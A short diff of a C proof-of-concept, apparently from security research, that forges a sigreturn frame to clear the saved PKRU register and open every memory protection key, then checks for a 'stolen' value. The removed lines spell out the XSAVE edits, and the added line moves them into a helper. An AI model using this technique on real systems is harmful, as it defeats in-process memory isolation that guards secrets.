@@ -6,7 +6,6 @@
 #define _GNU_SOURCE
 #include "attack.h"
 
-#include <cpuid.h>
 #include <signal.h>
 #include <stdint.h>
 #include <sys/syscall.h>
@@ -86,13 +85,7 @@ int main(int argc, char **argv)
     sigemptyset(&sa.sa_mask);
     sigaction(SIGUSR1, &sa, NULL);
     raise(SIGUSR1);
-    unsigned eax, ebx, ecx, edx;
-    __cpuid_count(0xd, 9, eax, ebx, ecx, edx); /* the PKRU component's offset */
-    uint64_t bv;
-    memcpy(&bv, fpstate + 512, 8);
-    bv |= 1ull << 9;
-    memcpy(fpstate + 512, &bv, 8);
-    memset(fpstate + ebx, 0, 4);
+    xsave_open_every_key(fpstate);
     frame.uc_mcontext.gregs[REG_RIP] = (greg_t)after_sigreturn;
     frame.uc_mcontext.gregs[REG_RSP] = (greg_t)(stack + sizeof stack - 8);
     back.uc_mcontext.gregs[REG_RIP] = (greg_t)check_stolen;
